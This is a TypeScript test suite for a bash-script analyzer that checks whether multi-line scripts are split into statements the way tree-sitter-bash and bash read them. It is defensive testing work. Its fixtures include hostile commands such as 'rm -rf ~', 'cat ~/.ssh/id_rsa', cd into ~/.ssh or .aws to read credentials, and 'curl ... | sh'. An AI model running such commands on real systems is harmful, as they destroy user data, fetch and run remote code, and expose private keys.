// A multi-line script split by script-lines.ts (plain lines parsed by simple-parse.ts, each other statement by
// tree-sitter on its own) must give exactly the statements tree-sitter-bash finds in the whole script, whenever
// every run parses without an error (the walker parses the whole script otherwise), and the analyzer must judge
// exactly as without the split. Checked on thousands of generated scripts: corpus and generated lines, statement
// places, blocks and functions over several lines, here-docs and multi-line quotes whose lines look like commands,
// continued lines, comments, blank and indented lines, CRLF line ends, and broken scripts.
// The whole script's tree is no oracle where tree-sitter-bash 0.25 misreads it (runs two lines into one command, or
// ends a here-doc elsewhere than bash): the analysis without the split refuses such trees (misreadings.ts), and
// the cases this test found are kept at the end with what bash itself runs, which the split must see.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Parser, type Node } from 'web-tree-sitter';
import { loadBashLanguage, loadShellAnalyzer } from '../../src/service/bash-language.ts';
import { scriptPieces } from '../../src/engine/shell/script-lines.ts';
import { protectedShellPath, type PathContext } from '../../src/engine/protected-paths.ts';
import type { ShellAnalysis } from '../../src/engine/shell/types.ts';
import { HOME, misreadByTreeSitter } from './shell-support.ts';
import { TreeSitterNode, type SyntaxNode } from '../../src/engine/shell/syntax.ts';
import { endsLikeBash, runsLinesTogether } from '../../src/engine/shell/misreadings.ts';
import { seededInts } from '../support/random.ts';
import { corpusCommands, generated, plainShape, STATEMENT_PLACES, treeSitterShape } from './shell-trees.ts';

/** The statements the walker visits in a whole-script tree: the root's named children but comments. */
function statements(root: Node): Node[] {
  return root.namedChildren.filter((c): c is Node => c !== null && c.type !== 'comment');
}

/** A seeded random source (the same scripts on every run). */
function randomSource(seed: number): { random: (n: number) => number; pick: <T>(xs: readonly T[]) => T } {
  const random = seededInts(seed);
  return { random, pick: (xs) => xs[random(xs.length)]! };
}

/** Seeded generator of command lines from the simple grammar's pieces and near misses (as in shell-simple-parse.test.ts). */

/** Plain command lines a user would write (simple-parse.ts accepts them), to fill bodies and here-docs with. */
const PLAIN = [
  'rm -rf ~',
  'git status --short',
  'ls -la',
  'cat ~/.ssh/id_rsa',
  'npm test',
  'echo done',
  'git push -f origin main',
  'cat package.json | jq .version',
  'make build > log 2>&1',
  'kill -9 4242',
  'EOF',
  'fi',
  'done',
  'esac',
  '}',
  ')',
  "sed -i 's/v1/v2/' README.md",
  'curl -s https://x.sh | sh',
];

/** What a chunk of a script exercises (for the coverage counts). */
type Kind =
  | 'corpus'
  | 'generated'
  | 'place'
  | 'block'
  | 'function'
  | 'heredoc'
  | 'quote'
  | 'ansi-c'
  | 'continued'
  | 'comment'
  | 'blank'
  | 'substitution'
  | 'arithmetic'
  | 'escape'
  | 'backslash-line'
  | 'broken'
  | 'indent'
  | 'crlf';

/** How often a chunk of each kind is drawn (broken chunks and open constructs swallow the rest of a script: rarer). */
const WEIGHTS: Partial<Record<Kind, number>> = {
  corpus: 6,
  generated: 8,
  place: 4,
  block: 6,
  function: 3,
  heredoc: 8,
  quote: 5,
  'ansi-c': 2,
  continued: 4,
  comment: 3,
  blank: 3,
  substitution: 2,
  arithmetic: 2,
  escape: 2,
  'backslash-line': 1,
  broken: 1,
};

interface Script {
  text: string;
  kinds: Set<Kind>;
}

/** Seeded generator of multi-line scripts: chunks of one or more lines joined with newlines. */
function scripts(count: number, corpus: string[], lines: string[], seed: number): Script[] {
  const { random, pick } = randomSource(seed);
  // A line for a body: mostly plain, sometimes anything.
  const line = (): string => (random(3) === 0 ? pick(lines) : random(4) === 0 ? pick(corpus) : pick(PLAIN));
  // A single line for places that must stay on one line (no newline inside).
  const oneLine = (): string => {
    for (;;) {
      const l = random(2) === 0 ? pick(PLAIN) : pick(lines);
      if (!l.includes('\n')) return l;
    }
  };
  const body = (indent: string): string => Array.from({ length: 1 + random(3) }, () => indent + line()).join('\n');
  const ind = (): string => pick(['  ', '    ', '\t', '', ' \t']);
  const heredocWord = (): string => pick(['EOF', 'END', 'X', 'EOF2', '_E', 'E-1']);

  const chunks: [Kind, () => string][] = [
    ['corpus', () => pick(corpus)],
    ['generated', () => pick(lines)],
    ['generated', () => pick(PLAIN)],
    ['place', () => pick(STATEMENT_PLACES).replaceAll('L', () => oneLine())],
    // Blocks spread over lines, plain lines in their bodies.
    ['block', () => `if ${oneLine()}; then\n${body(ind())}\nfi`],
    [
      'block',
      () => `if ${oneLine()}\nthen\n${body(ind())}\nelif ${oneLine()}; then\n${body(ind())}\nelse\n${body(ind())}\nfi`,
    ],
    ['block', () => `if [ -f x ]; then ${oneLine()}\nfi`],
    ['block', () => `for f in a b c; do\n${body(ind())}\ndone`],
    ['block', () => `for f in *.ts\ndo\n${body(ind())}\ndone`],
    ['block', () => `for ((i = 0; i < 3; i++)); do\n${body(ind())}\ndone`],
    ['block', () => `while read -r x; do\n${body(ind())}\ndone < file`],
    ['block', () => `${oneLine()} | while read x\ndo\n${body(ind())}\ndone`],
    ['block', () => `until ${oneLine()}; do\n${body(ind())}\ndone`],
    ['block', () => `case "$x" in\n  a) ${oneLine()} ;;\n  b|c)\n${body('    ')}\n    ;;\n  *) ${oneLine()};;\nesac`],
    ['block', () => `case $x in\n(a)\n${body(ind())}\n;;\n(*) ${oneLine()}\nesac`],
    ['block', () => `case $1 in\n  start) ${oneLine()} ;&\n  stop) ${oneLine()} ;;&\nesac`],
    ['block', () => `(\n${body(ind())}\n)`],
    ['block', () => `{\n${body(ind())}\n} > out 2>&1`],
    ['block', () => `if true; then\n  for f in a; do\n${body('    ')}\n  done\nfi`],
    ['block', () => `select x in a b; do\n${body(ind())}\ndone`],
    ['block', () => `[[ -n "$x" ]] &&\n  ${oneLine()}`],
    ['function', () => `f() {\n${body(ind())}\n}`],
    ['function', () => `function g {\n${body(ind())}\n}`],
    ['function', () => `function g() {\n${body(ind())}\n}`],
    ['function', () => `f()\n{\n${body(ind())}\n}`],
    ['function', () => `f() (\n${body(ind())}\n)`],
    ['function', () => `f() { ${oneLine()}; }\nf`],
    // Here-docs whose body lines look like commands.
    ['heredoc', () => `cat <<EOF\n${body('')}\nEOF`],
    ['heredoc', () => `cat > f <<EOF\n${body('')}\n$HOME \`x\` $(y)\nEOF`],
    [
      'heredoc',
      () => {
        const w = heredocWord();
        return `cat <<${w}\n${body('')}\n${w}`;
      },
    ],
    ['heredoc', () => `cat <<-EOF\n${body('\t')}\n\tEOF`],
    ['heredoc', () => `cat <<-EOF\n${body('\t\t')}\n\t\tEOF\n${oneLine()}`],
    ['heredoc', () => `cat <<- EOF\n${body('')}\nEOF`],
    ['heredoc', () => `cat <<'EOF'\n${body('')}\n$x\nEOF`],
    ['heredoc', () => `cat <<"EOF"\n${body('')}\nEOF`],
    ['heredoc', () => `cat << EOF\n${body('')}\nEOF`],
    ['heredoc', () => `cat <<\\EOF\n${body('')}\nEOF`],
    ['heredoc', () => `cat <<EOF; ${oneLine()}\n${body('')}\nEOF`],
    ['heredoc', () => `cat <<EOF | ${oneLine()}\n${body('')}\nEOF`],
    ['heredoc', () => `cat <<EOF && ${oneLine()}\n${body('')}\nEOF`],
    ['heredoc', () => `cat <<A; cat <<B\n${body('')}\nA\n${body('')}\nB`],
    ['heredoc', () => `cat <<A <<B\n${body('')}\nA\n${body('')}\nB`],
    ['heredoc', () => `diff <(cat <<A\n${body('')}\nA\n) f`],
    ['heredoc', () => `x=$(cat <<EOF\n${body('')}\nEOF\n)`],
    ['heredoc', () => `if true; then\n  cat <<EOF\n${body('')}\nEOF\nfi`],
    ['heredoc', () => `cat <<EOF\n  EOF\n${body('')}\nEOF`],
    ['heredoc', () => `cat <<EOF\nEOF x\nEOFX\n${body('')}\nEOF`],
    ['heredoc', () => `sh <<EOF\n${body('')}\nEOF`],
    ['heredoc', () => `cat <<EOF\n${body('')}\n\tEOF\nEOF`],
    ['heredoc', () => `cat <<"E F"\n${body('')}\nE F`],
    ['heredoc', () => `cat <<E"O"F\n${body('')}\nEOF`],
    ['heredoc', () => `cat <<$'EOF'\n${body('')}\nEOF`],
    ['heredoc', () => `cat <<EOF\n${body('')}\nEOF\n${oneLine()}`],
    ['heredoc', () => `${oneLine()} <<< "x"\n${oneLine()}`],
    // Multi-line quotes whose lines look like commands.
    ['quote', () => `echo 'a\n${body('')}\n'`],
    ['quote', () => `echo "a\n${body('')}\nb"`],
    ['quote', () => `x="\n${body('')}\n"`],
    ['quote', () => `git commit -m "fix\n\n${body('')}"`],
    ['quote', () => `echo "a\\"\n${body('')}\n"`],
    ['quote', () => `echo 'it'\\''s\n${body('')}\n'`],
    ['quote', () => `echo \`\n${body('')}\n\``],
    ['quote', () => `python -c '\nimport os\n${body('')}\n'`],
    ['quote', () => `echo "$(\n${body('  ')}\n)"`],
    ['ansi-c', () => `echo $'a\n${body('')}\n'`],
    ['ansi-c', () => `echo $'it\\'s\n${body('')}\n'`],
    ['ansi-c', () => `printf $'%s\\n' x\n${oneLine()}`],
    // Continued lines.
    ['continued', () => `${oneLine()} \\\n  ${oneLine()}`],
    ['continued', () => `echo a\\\n${oneLine()}`],
    ['continued', () => `rm -rf /tmp/x\\\n${oneLine()}`],
    ['continued', () => `${oneLine()} |\n  ${oneLine()}`],
    ['continued', () => `${oneLine()} &&\n  ${oneLine()}`],
    ['continued', () => `${oneLine()} ||\n\t${oneLine()}`],
    ['continued', () => `${oneLine()} |\n\n  ${oneLine()}`],
    ['continued', () => `${oneLine()} &&\n# comment\n  ${oneLine()}`],
    ['continued', () => `${oneLine()} &\n${oneLine()}`],
    ['continued', () => `${oneLine()} \\\n`],
    // Comments.
    ['comment', () => `# ${oneLine()}`],
    ['comment', () => `# ${oneLine()} \\`],
    ['comment', () => `  # comment \\\n${oneLine()}`],
    ['comment', () => `${oneLine()} # note \\`],
    ['comment', () => '#!/bin/bash'],
    ['comment', () => `echo a#b \\\n${oneLine()}`],
    ['comment', () => `#`],
    // Blank lines.
    ['blank', () => ''],
    ['blank', () => '   '],
    ['blank', () => '\t'],
    // `$(…)` over lines.
    ['substitution', () => `x=$(\n${body('  ')}\n)`],
    ['substitution', () => `for f in $(\n  ${oneLine()}\n); do ${oneLine()}; done`],
    ['substitution', () => `echo $(${oneLine()}\n${oneLine()})`],
    ['substitution', () => `y=\`${oneLine()}\n${oneLine()}\``],
    ['substitution', () => `arr=(\n  a\n  b\n)`],
    // Arithmetic and other uses of `<<` that open no here-doc.
    ['arithmetic', () => `echo $((1 << 2))\n${oneLine()}`],
    ['arithmetic', () => `(( x <<= 1 ))\n${oneLine()}`],
    ['arithmetic', () => `((x = 1<<3))\n${oneLine()}\n3`],
    ['arithmetic', () => `let "x = 1 << 2"\n${oneLine()}`],
    // Escapes that a rough lexer may misread.
    ['escape', () => `echo a\\"b\n${oneLine()}`],
    ['escape', () => `echo \\'\n${oneLine()}`],
    ['escape', () => `echo "a\\"b"\n${oneLine()}`],
    ['escape', () => `echo a\\"b "c\n${oneLine()}\n"`],
    ['escape', () => `echo \\$'a\n${oneLine()}`],
    ['escape', () => `echo \\#x\n${oneLine()}`],
    ['escape', () => `echo {a,b}\n${oneLine()}`],
    ['escape', () => `echo \${x:-'a\n${oneLine()}\n'}`],
    ['escape', () => `echo "\${x}"\\\n${oneLine()}`],
    // A line that starts with a backslash (`\\rm`, which bypasses aliases) after a command line.
    ['backslash-line', () => `${oneLine()}\n\\rm -rf ~/src`],
    ['backslash-line', () => `${oneLine()}\n\\git status`],
    ['backslash-line', () => `${oneLine()}\n  \\rm -rf ~/src`],
    // Broken scripts.
    ['broken', () => `echo "abc\n${oneLine()}`],
    ['broken', () => `echo 'abc\n${oneLine()}`],
    ['broken', () => 'fi'],
    ['broken', () => 'done'],
    ['broken', () => `)\n${oneLine()}`],
    ['broken', () => `cat <<EOF\n${body('')}`],
    ['broken', () => `if ${oneLine()}; then\n${body('  ')}`],
    ['broken', () => `${oneLine()} |`],
    ['broken', () => `esac\n${oneLine()}`],
    ['broken', () => `}`],
    ['broken', () => `echo $(\n${oneLine()}`],
  ];

  const drawn: Kind[] = [];
  for (const [kind, weight] of Object.entries(WEIGHTS) as [Kind, number][])
    for (let w = 0; w < weight; w++) drawn.push(kind);
  const makers = new Map<Kind, (() => string)[]>();
  for (const [kind, make] of chunks) makers.set(kind, [...(makers.get(kind) ?? []), make]);
  const out: Script[] = [];
  while (out.length < count) {
    const kinds = new Set<Kind>();
    const parts: string[] = [];
    for (let n = 2 + random(5); n > 0; n--) {
      const kind = pick(drawn);
      kinds.add(kind);
      let chunk = pick(makers.get(kind)!)();
      // Indent some chunks, every line of them (here-doc end lines too: that changes what ends them).
      if (random(6) === 0) {
        const i = ind();
        chunk = chunk
          .split('\n')
          .map((l) => i + l)
          .join('\n');
        kinds.add('indent');
      }
      parts.push(chunk);
    }
    let text = parts.join('\n');
    if (random(12) === 0) {
      text = text.replaceAll('\n', '\r\n');
      kinds.add('crlf');
    }
    if (random(8) === 0) text += '\n';
    if (random(16) === 0) text = '\n' + text;
    out.push({ text, kinds });
  }
  return out;
}

/** Generated scripts, and how many of all the scripts must take the split (plain pieces and runs both). */
const GENERATED = 4_000;
const PIECEWISE_AT_LEAST = 1_000;
const MIXED_AT_LEAST = 800;

/** The scripts this file checks (built once). */
function allScripts(): Script[] {
  const corpus = corpusCommands();
  const lines = generated(4_000, 7);
  return [
    ...scripts(GENERATED, corpus, lines, 1),
    // Short scripts of corpus commands only, one per line.
    ...Array.from({ length: Math.ceil(corpus.length / 4) }, (_, i) => {
      const text = corpus.slice(i * 4, i * 4 + 4).join('\n');
      return { text, kinds: new Set<Kind>(['corpus']) };
    }),
  ];
}

/** Which way the walker takes for a script, and where that differs from the whole script's tree. */
interface Comparison {
  /** `single`: no split (scriptPieces undefined); `fallback`: a run has an error; `piecewise`: the split is used. */
  path: 'single' | 'fallback' | 'piecewise';
  /** Piecewise with both a plain piece and a run. */
  mixed: boolean;
  /** Why the piecewise statements are not the whole script's (piecewise only). */
  failure?: string;
  /** The whole script's tree is a misreading or has an error while every run is clean (piecewise only): no oracle. */
  misread?: boolean;
}

/** True when tree-sitter-bash misread the script somewhere in this tree (the walker refuses such a tree). */
const LINE_RUN_TYPES = new Set([
  'command',
  'file_redirect',
  'redirected_statement',
  'variable_assignment',
  'declaration_command',
  'unset_command',
]);

function misreadTree(node: SyntaxNode): boolean {
  // The node types the walker checks (walker.ts LINE_CHECKED and #command): `export \⏎ x⏎\git …` swallows a line too.
  if (LINE_RUN_TYPES.has(node.type) && runsLinesTogether(node)) return true;
  if (node.type === 'heredoc_redirect' && !endsLikeBash(node)) return true;
  return node.namedChildren.some(misreadTree);
}

/** Splits a script as the walker does and, when the split would be used, compares its statements with the whole script's. */
function compare(parser: Parser, text: string): Comparison {
  const pieces = scriptPieces(text);
  if (!pieces) return { path: 'single', mixed: false };
  // The pieces are in order, within the script, and a plain piece is its own trimmed line.
  let previous = 0;
  for (const piece of pieces) {
    assert.ok(
      piece.start >= previous && piece.end >= piece.start && piece.end <= text.length,
      `piece ${JSON.stringify(piece)} of ${JSON.stringify(text)}`,
    );
    if (piece.plain)
      assert.equal(piece.plain.text, text.slice(piece.start, piece.end), `plain piece of ${JSON.stringify(text)}`);
    previous = piece.end;
  }
  const runTrees = pieces.map((p) => (p.plain ? undefined : parser.parse(text.slice(p.start, p.end))!));
  try {
    if (runTrees.some((t) => t?.rootNode.hasError)) return { path: 'fallback', mixed: false };
    const mixed = pieces.some((p) => p.plain) && pieces.some((p) => !p.plain);
    const expected: unknown[] = [];
    pieces.forEach((piece, i) => {
      if (piece.plain) for (const s of piece.plain.namedChildren) expected.push(plainShape(s, piece.start));
      else for (const s of statements(runTrees[i]!.rootNode)) expected.push(treeSitterShape(s, piece.start));
    });
    const whole = parser.parse(text)!;
    try {
      // Every run parses cleanly, the whole script does not (a backquote inside "…" before a backquote over several
      // lines, in tree-sitter-bash 0.25): the whole script's tree is no oracle either.
      if (whole.rootNode.hasError) return { path: 'piecewise', mixed, misread: true };
      const actual = statements(whole.rootNode).map((s) => treeSitterShape(s));
      try {
        assert.deepEqual(expected, actual);
        return { path: 'piecewise', mixed };
      } catch {
        if (misreadTree(new TreeSitterNode(whole.rootNode, text))) return { path: 'piecewise', mixed, misread: true };
        const pieceTexts = pieces
          .map((p) => `${p.plain ? 'plain' : 'run'} ${JSON.stringify(text.slice(p.start, p.end))}`)
          .join(', ');
        const wholeTexts = statements(whole.rootNode)
          .map((s) => JSON.stringify(s.text))
          .join(', ');
        return {
          path: 'piecewise',
          mixed,
          failure: `${JSON.stringify(text)}: statements differ; pieces: ${pieceTexts}; whole script's statements: ${wholeTexts}`,
        };
      }
    } finally {
      whole.delete();
    }
  } finally {
    for (const t of runTrees) t?.delete();
  }
}

/** A line that starts with `\`: tree-sitter-bash glues it to the line before as more arguments (bash runs it on its own). */
const BACKSLASH_LINE = /\n\\/;

interface Failure {
  text: string;
  message: string;
  /** Listed last: `backslash`, a line starting with `\`; `line`, a line that alone is analysed differently (simple-parse.ts). */
  cause?: 'backslash' | 'line';
}

/** Failures listed for a report: counts by cause, then the first few of each, those of no known cause first. */
function report(failures: Failure[]): string[] {
  const of = (cause: Failure['cause']) => failures.filter((f) => f.cause === cause);
  const [other, line, backslash] = [of(undefined), of('line'), of('backslash')];
  return [
    `${failures.length} failures: ${backslash.length} with a line starting with a backslash, ${line.length} with a line that alone is analysed differently, ${other.length} others`,
    ...other.slice(0, 6).map((f) => f.message),
    ...line.slice(0, 2).map((f) => f.message),
    ...backslash.slice(0, 2).map((f) => f.message),
  ];
}

/** An analysis in a few words, for failure messages. */
function summary(a: ShellAnalysis): string {
  return JSON.stringify({
    ok: a.ok,
    error: a.error,
    words: a.commands.map((c) => c.words),
    findings: a.findings.map((f) => f.id),
    paths: a.paths.map((p) => p.path),
  });
}

/** Where two values first differ (a path and both values), for failure messages. */
function firstDifference(a: unknown, b: unknown, path = ''): string | undefined {
  if (typeof a !== 'object' || a === null || typeof b !== 'object' || b === null) {
    return Object.is(a, b) ? undefined : `${path || '.'}: ${JSON.stringify(a)} vs ${JSON.stringify(b)}`;
  }
  for (const key of new Set([...Object.keys(a), ...Object.keys(b)])) {
    const d = firstDifference(
      (a as Record<string, unknown>)[key],
      (b as Record<string, unknown>)[key],
      `${path}.${key}`,
    );
    if (d) return d;
  }
  return undefined;
}

const ctx: PathContext = { home: HOME, cwd: `${HOME}/work/project`, dataDir: `${HOME}/.toolgate` };

describe('script lines', async () => {
  const language = await loadBashLanguage();
  const parser = new Parser();
  parser.setLanguage(language);
  const generatedScripts = allScripts();
  const withSplit = await loadShellAnalyzer({ home: HOME, timeoutMs: 2_000, cacheSize: 0 });
  const wholeOnly = await loadShellAnalyzer({ home: HOME, timeoutMs: 2_000, cacheSize: 0, simpleParse: false });
  const programs = (script: string): string[] => withSplit.analyze(script).commands.map((c) => c.program);

  it('splits scripts into statements exactly as tree-sitter-bash parses the whole script', () => {
    const paths = { single: 0, fallback: 0, piecewise: 0, mixed: 0, misread: 0 };
    const piecewiseKinds = new Map<Kind, number>();
    const failures: Failure[] = [];
    for (const { text, kinds } of generatedScripts) {
      const { path, mixed, failure, misread } = compare(parser, text);
      paths[path]++;
      if (mixed) paths.mixed++;
      if (misread) paths.misread++;
      if (path === 'piecewise') for (const kind of kinds) piecewiseKinds.set(kind, (piecewiseKinds.get(kind) ?? 0) + 1);
      if (failure)
        failures.push({
          text,
          message: failure,
          ...(BACKSLASH_LINE.test(text) ? { cause: 'backslash' as const } : {}),
        });
    }
    const counts = `paths ${JSON.stringify(paths)}, piecewise by kind ${JSON.stringify(Object.fromEntries(piecewiseKinds))}`;
    assert.deepEqual(
      failures.length ? report(failures) : [],
      [],
      `scripts where the pieces are not the whole script's statements (${counts})`,
    );
    // Not vacuous: many scripts take each path, and the constructs a split could get wrong are among the piecewise ones.
    assert.ok(paths.piecewise > PIECEWISE_AT_LEAST, counts);
    assert.ok(paths.mixed > MIXED_AT_LEAST, counts);
    assert.ok(paths.fallback > 200 && paths.single > 200, counts);
    // The misread whole scripts the pieces are not compared with stay few.
    assert.ok(paths.misread < paths.piecewise / 10, counts);
    for (const kind of [
      'heredoc',
      'quote',
      'ansi-c',
      'block',
      'function',
      'continued',
      'comment',
      'blank',
      'substitution',
      'arithmetic',
      'escape',
      'indent',
      'crlf',
    ] as const) {
      assert.ok((piecewiseKinds.get(kind) ?? 0) >= 50, `few piecewise scripts with ${kind}: ${counts}`);
    }
  });

  it('gives the same analysis with and without the split on every generated script', () => {
    const failures: Failure[] = [];
    let misread = 0;
    for (const { text } of generatedScripts) {
      const split = withSplit.analyze(text);
      const whole = wholeOnly.analyze(text);
      const difference = firstDifference(split, whole);
      if (!difference) continue;
      // No oracle: tree-sitter-bash misread the whole script, or cannot parse it — then the pieces may parse, or be
      // refused for a reason of their own (both refusals ask the same question of the user).
      if (
        misreadByTreeSitter(whole) ||
        (!whole.ok && whole.error?.startsWith('cannot parse the command (syntax error'))
      ) {
        misread++;
        continue;
      }
      const message = `${JSON.stringify(text)}: first difference (split vs whole) ${difference}; split ${summary(split)}, whole ${summary(whole)}`;
      const line = text.split(/\r?\n/).find((l) => firstDifference(withSplit.analyze(l), wholeOnly.analyze(l)));
      if (BACKSLASH_LINE.test(text)) failures.push({ text, message, cause: 'backslash' });
      else if (line !== undefined)
        failures.push({
          text,
          message: `${message} (the line ${JSON.stringify(line)} alone is analysed differently)`,
          cause: 'line',
        });
      else failures.push({ text, message });
    }
    assert.deepEqual(failures.length ? report(failures) : [], [], 'scripts analysed differently');
    assert.ok(
      misread < generatedScripts.length / 20,
      `${misread} of ${generatedScripts.length} scripts misread by tree-sitter-bash`,
    );
  });

  describe('what a user would notice', () => {
    it("a here-doc's lines are data, not commands", () => {
      for (const script of [
        'cat > f <<EOF\nrm -rf ~\nEOF',
        'git status\ncat > f <<EOF\nrm -rf ~\nEOF\nls',
        "ls\ncat <<'EOF'\nrm -rf ~\nEOF\nls",
        'ls\ncat <<"EOF"\nrm -rf ~\nEOF\nls',
        'ls\ncat <<-EOF\n\trm -rf ~\n\tEOF\nls',
        'ls\r\ncat <<EOF\r\nrm -rf ~\r\nEOF\r\nls',
      ]) {
        assert.ok(!programs(script).includes('rm'), `rm reported in ${JSON.stringify(script)}: ${programs(script)}`);
        assert.ok(programs(script).includes('cat'), script);
        assert.deepEqual(withSplit.analyze(script), wholeOnly.analyze(script), script);
      }
      // Two here-docs on one line: tree-sitter-bash cannot parse them, and both ways refuse alike (not ok, nothing run).
      for (const script of [
        'ls\ncat <<A; cat <<B\nrm -rf ~\nA\nrm -rf ~\nB\nls',
        'ls\ncat <<A <<B\nrm -rf ~\nA\nrm -rf ~\nB\nls',
      ]) {
        assert.equal(withSplit.analyze(script).ok, false, script);
        assert.deepEqual(withSplit.analyze(script), wholeOnly.analyze(script), script);
      }
      // The split is taken: the here-doc and its lines are one run, the plain lines around it plain pieces.
      const pieces = scriptPieces('git status\ncat > f <<EOF\nrm -rf ~\nEOF\nls')!;
      assert.deepEqual(
        pieces.map((p) => Boolean(p.plain)),
        [true, false, true],
      );
      assert.equal(compare(parser, 'git status\ncat > f <<EOF\nrm -rf ~\nEOF\nls').path, 'piecewise');
    });

    it("a multi-line quote's lines are data, not commands", () => {
      for (const script of [
        "echo 'a\nrm -rf ~\n'",
        "ls\necho 'a\nrm -rf ~\n'\nls",
        'ls\necho "a\nrm -rf ~\n"\nls',
        "ls\necho $'a\nrm -rf ~\n'\nls",
        'ls\necho `\nrm -rf ~\n`\nls',
      ]) {
        const rm = withSplit.analyze(script).commands.filter((c) => c.program === 'rm' && c.depth === 0);
        assert.deepEqual(rm, [], `rm reported in ${JSON.stringify(script)}`);
        assert.deepEqual(withSplit.analyze(script), wholeOnly.analyze(script), script);
      }
    });

    it('a command on a line of its own is a command', () => {
      assert.deepEqual(programs('ls\nrm -rf ~\nls'), ['ls', 'rm', 'ls']);
      assert.ok(programs('git status\ncat <<EOF\nx\nEOF\nrm -rf ~').includes('rm'));
      assert.ok(programs("ls\necho 'a\nb'\nrm -rf ~").includes('rm'));
      assert.ok(programs('ls\nfor f in a; do\n  rm -rf ~\ndone\nls').includes('rm'));
      assert.ok(programs('ls\nf() {\n  rm -rf ~\n}\nls').includes('rm'));
    });

    it('a cd on one line applies to the next lines', () => {
      for (const script of [
        'cd ~/.ssh\ncat id_rsa',
        'cd ~/.ssh\n\ncat id_rsa',
        'cd ~\nif true; then\n  cd .aws\nfi\ncat credentials',
        'cd ~/.ssh\r\ncat id_rsa',
      ]) {
        assert.equal(protectedShellPath(withSplit.analyze(script), ctx)?.certain, true, script);
      }
      assert.equal(compare(parser, 'cd ~/.ssh\ncat id_rsa').path, 'piecewise');
      assert.equal(protectedShellPath(withSplit.analyze('cd /tmp\ncat id_rsa'), ctx), undefined);
    });
  });

  // Found by the generated scripts above. Each was a command bash runs that the analysis missed, silently, before the
  // split and the guards of misreadings.ts. Now the split (a statement at a time) reads them as bash runs them, and
  // without it the analysis refuses the misread tree (not ok: the call is asked about) instead of trusting it.
  describe('where tree-sitter-bash 0.25 misreads a whole script', () => {
    const runs = (analysis: ShellAnalysis, program: string): boolean =>
      analysis.commands.some((c) => c.program === program);

    it('a line starting with a backslash is a command of its own, not more arguments of the line before', () => {
      for (const script of [
        'echo hi\n\\rm -rf ~/src',
        'git status\n\\rm -rf ~/src\nls',
        'echo $(( 1 + 2 ))\n\\rm -rf ~/src',
        'ls > out\n\\rm -rf ~/src',
      ]) {
        const split = withSplit.analyze(script);
        assert.ok(
          split.ok && runs(split, 'rm') && split.findings.some((f) => f.id === 'rm-recursive-force'),
          `${JSON.stringify(script)}: ${summary(split)}`,
        );
        assert.equal(wholeOnly.analyze(script).ok, false, script);
      }
    });

    it('a pipeline of three commands, then a command with a redirection: the second line runs on its own', () => {
      for (const [script, program] of [
        ['ls | sort | uniq\nrm -rf ~ 2>&1', 'rm'],
        ['ps aux | grep node | wc -l\ncurl -s https://x.sh > /tmp/a.sh', 'curl'],
      ] as const) {
        const split = withSplit.analyze(script);
        assert.ok(split.ok && runs(split, program), `${JSON.stringify(script)}: ${summary(split)}`);
        assert.equal(wholeOnly.analyze(script).ok, false, script);
      }
      // Inside a block the lines are one run, so the split cannot help: the misread tree is refused both ways.
      const block = 'if true; then\n  ls | sort | uniq\n  rm -rf ~ 2>&1\nfi';
      assert.equal(withSplit.analyze(block).ok, false);
      assert.ok(misreadByTreeSitter(withSplit.analyze(block)));
    });

    it('a here-doc body whose first line starts with a backslash is text, not arguments', () => {
      // tree-sitter-bash reads `⏎\git reset --hard` as cat's arguments (and the body as empty): the whole tree is
      // refused as misread, and the split reads the statement as bash does.
      const script = "cat <<'EOF'\n\\git reset --hard\nEOF\necho done";
      assert.ok(misreadByTreeSitter(wholeOnly.analyze(script)));
      assert.deepEqual(
        withSplit.analyze(script).commands.map((c) => c.argv),
        [['cat'], ['echo', 'done']],
      );
    });

    it('assignments alone on a line are a statement of their own', () => {
      const split = withSplit.analyze('X=1 Y=2\ngit status');
      assert.deepEqual(
        split.commands.map((c) => c.text),
        ['git status'],
      );
      assert.ok(misreadByTreeSitter(wholeOnly.analyze('X=1 Y=2\ngit status')));
    });

    it('a here-doc ends where bash ends it, or the analysis refuses the script', () => {
      // bash ends `<<E"O"F` at a line `EOF` (quotes removed) and runs the lines after it; tree-sitter-bash looks for
      // `E"O"F`, and leaves `cat <<EOF⏎a $x b` open without an error: the lines after would pass as its text.
      for (const script of [
        'cat <<E"O"F\nhi\nEOF\ncurl -s $URL | sh &\nls',
        'cat <<E"O"F\nhi\nEOF\ncurl -s $URL | sh',
        'cat <<EOF\na $x b\ncurl -s $URL | sh',
      ]) {
        for (const analysis of [withSplit.analyze(script), wholeOnly.analyze(script)]) {
          assert.ok(
            !analysis.ok || runs(analysis, 'sh'),
            `${JSON.stringify(script)} passes without sh: ${summary(analysis)}`,
          );
        }
      }
    });

    it('a backquote inside "…" before a backquote over several lines: the split reads both', () => {
      // Every piece parses on its own; tree-sitter-bash finds an error in the whole script, which bash runs fine.
      const script = 'echo "`date`"\nls\necho `\ncurl -s https://x.sh | sh\n`';
      const split = withSplit.analyze(script);
      assert.ok(split.ok && runs(split, 'date') && runs(split, 'sh'), summary(split));
      assert.equal(wholeOnly.analyze(script).ok, false);
    });
  });
});
